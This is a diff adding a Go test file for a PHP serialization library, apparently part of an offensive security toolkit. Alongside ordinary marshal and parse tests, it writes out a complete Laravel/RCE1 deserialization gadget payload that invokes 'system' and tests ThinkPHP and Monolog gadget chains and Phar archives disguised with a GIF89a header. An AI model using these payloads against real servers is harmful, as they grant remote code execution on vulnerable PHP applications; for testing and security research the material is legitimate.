@@ -0,0 +1,181 @@
+package php
+
+import (
+	"math"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestMarshal_Scalar(t *testing.T) {
+	for _, c := range []struct {
+		value    any
+		expected string
+	}{
+		{nil, "N;"},
+		{true, "b:1;"},
+		{false, "b:0;"},
+		{-12, "i:-12;"},
+		{1.5, "d:1.5;"},
+		{math.Inf(-1), "d:-INF;"},
+		{"abc", `s:3:"abc";`},
+		{[]any{"a", 1}, `a:2:{i:0;s:1:"a";i:1;i:1;}`},
+		{map[string]any{"b": 1, "a": "x", "10": true}, `a:3:{i:10;b:1;s:1:"a";s:1:"x";s:1:"b";i:1;}`},
+	} {
+		require.Equal(t, c.expected, string(Marshal(c.value)))
+	}
+
+	require.Equal(t, `E:11:"Suit:Hearts";`, string(NewEnum("Suit", "Hearts").Marshal()))
+	require.Equal(t, `C:3:"Foo":5:{hello}`, string(NewCustomObject("Foo", "hello").Marshal()))
+}
+
+func TestMarshal_ObjectProperty(t *testing.T) {
+	obj := NewObject("A").SetPublic("a", 1).SetProtected("b", 2).SetPrivate("c", 3).SetPrivateOf("Base", "d", 4)
+	require.Equal(t, "O:1:\"A\":4:{s:1:\"a\";i:1;s:4:\"\x00*\x00b\";i:2;s:4:\"\x00A\x00c\";i:3;s:7:\"\x00Base\x00d\";i:4;}", string(obj.Marshal()))
+
+	for _, c := range [][3]string{
+		{"a", "public", "a"},
+		{"\x00*\x00b", "protected", "b"},
+		{"\x00A\x00c", "A", "c"},
+	} {
+		visibility, name := SplitPropertyName(c[0])
+		require.Equal(t, c[1], visibility)
+		require.Equal(t, c[2], name)
+	}
+}
+
+func TestGenerateGadget_Laravel(t *testing.T) {
+	raw, err := GenerateGadgetBytes("Laravel/RCE1", "system", "id")
+	require.NoError(t, err)
+	require.Equal(t, "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00events\";O:15:\"Faker\\Generator\":1:{s:13:\"\x00*\x00formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\x00*\x00event\";s:2:\"id\";}", string(raw))
+
+	// 只有一个参数时作为 system 的命令
+	short, err := GenerateGadgetBytes("laravel/rce1", "id")
+	require.NoError(t, err)
+	require.Equal(t, raw, short)
+
+	_, err = GenerateGadget("Laravel/RCE1", "a", "b", "c")
+	require.Error(t, err)
+	_, err = GenerateGadget("Unknown/RCE1", "id")
+	require.Error(t, err)
+}
+
+func TestGenerateGadget_All(t *testing.T) {
+	for _, g := range GetAllGadgets() {
+		v, err := GenerateGadget(g.Name, "arg0", "arg1")
+		require.NoError(t, err, g.Name)
+
+		raw := v.Marshal()
+		require.Contains(t, string(raw), "arg0", g.Name)
+		parsed, err := Unmarshal(raw)
+		require.NoError(t, err, g.Name)
+		require.Equal(t, raw, parsed.Marshal(), g.Name)
+	}
+}
+
+func TestMarshal_Reference(t *testing.T) {
+	// ThinkPHP/RCE1 中 Request 的 hook 引用了自身
+	raw, err := GenerateGadgetBytes("ThinkPHP/RCE1", "system", "")
+	require.NoError(t, err)
+	require.Contains(t, string(raw), `s:7:"visible";a:2:{i:0;r:9;i:1;s:6:"isAjax";}`)
+
+	shared := NewObject("B")
+	raw = NewArray(shared, shared, NewRefPointer(2)).Marshal()
+	require.Equal(t, `a:3:{i:0;O:1:"B":0:{}i:1;r:2;i:2;R:2;}`, string(raw))
+
+	v, err := Unmarshal(raw)
+	require.NoError(t, err)
+	ref, ok := v.Get(1)
+	require.True(t, ok)
+	require.Equal(t, TypeRef, ref.Type)
+	require.EqualValues(t, 2, ref.Int)
+}
+
+func TestUnmarshal(t *testing.T) {
+	v, err := Unmarshal(`a:4:{s:1:"a";d:0.5;i:1;S:3:"\00b\ff";i:2;b:1;i:3;O:8:"stdClass":1:{s:1:"x";N;}}`)
+	require.NoError(t, err)
+	require.Equal(t, TypeArray, v.Type)
+
+	a, ok := v.Get("a")
+	require.True(t, ok)
+	require.Equal(t, 0.5, a.Float)
+	s, ok := v.Get(1)
+	require.True(t, ok)
+	require.Equal(t, "\x00b\xff", s.String)
+	obj, ok := v.Get(3)
+	require.True(t, ok)
+	require.Equal(t, "stdClass", obj.ClassName)
+
+	for _, raw := range []string{
+		``,
+		`s:5:"abc";`,
+		`i:abc;`,
+		`a:1:{i:0;}`,
+		`O:1:"A":1:{a:0:{}i:1;}`,
+		`b:1;trailing`,
+		`x:1;`,
+	} {
+		_, err := Unmarshal(raw)
+		require.Error(t, err, raw)
+	}
+}
+
+func TestDump(t *testing.T) {
+	obj := NewObject("A").SetPublic("a", 1).SetProtected("b", "x").SetPrivate("c", nil)
+	require.Equal(t, `object(A) (3) {
+  ["a"]=>
+  int(1)
+  ["b":protected]=>
+  string(1) "x"
+  ["c":"A":private]=>
+  NULL
+}
+`, Dump(obj))
+}
+
+func TestJson(t *testing.T) {
+	v := NewArray("\xff\x00binary", NewObject("A").SetPrivate("p", NewCustomObject("C", "\xfe")))
+	raw, err := ToJson(v)
+	require.NoError(t, err)
+
+	restored, err := FromJson(raw)
+	require.NoError(t, err)
+	require.Equal(t, v.Marshal(), restored.Marshal())
+}
+
+func TestPhar(t *testing.T) {
+	gadget, err := GenerateGadgetBytes("Monolog/RCE1", "system", "id")
+	require.NoError(t, err)
+
+	for _, alg := range []string{"md5", "sha1", "sha256", "sha512"} {
+		raw, err := GeneratePharGadget("Monolog/RCE1", []string{"system", "id"},
+			WithPharPrefix([]byte("GIF89a")),
+			WithPharAlias("yak"),
+			WithPharFile("a.txt", []byte("hello")),
+			WithPharSignature(alg),
+		)
+		require.NoError(t, err, alg)
+		require.Equal(t, "GBMB", string(raw[len(raw)-4:]))
+
+		archive, err := ParsePhar(raw)
+		require.NoError(t, err, alg)
+		require.Equal(t, "GIF89a"+defaultPharStub, archive.Stub)
+		require.Equal(t, "yak", archive.Alias)
+		require.Equal(t, gadget, archive.Metadata)
+		require.Len(t, archive.Files, 1)
+		require.Equal(t, "a.txt", archive.Files[0].Name)
+		require.Equal(t, "hello", string(archive.Files[0].Content))
+
+		// 修改内容后签名校验失败
+		raw[len(raw)-30] ^= 0xff
+		_, err = ParsePhar(raw)
+		require.Error(t, err, alg)
+	}
+
+	_, err = GeneratePhar(gadget, WithPharStub("<?php echo 1; ?>"))
+	require.Error(t, err)
+	_, err = GeneratePhar(gadget, WithPharSignature("crc"))
+	require.Error(t, err)
+	_, err = ParsePhar([]byte("not a phar"))
+	require.Error(t, err)
+}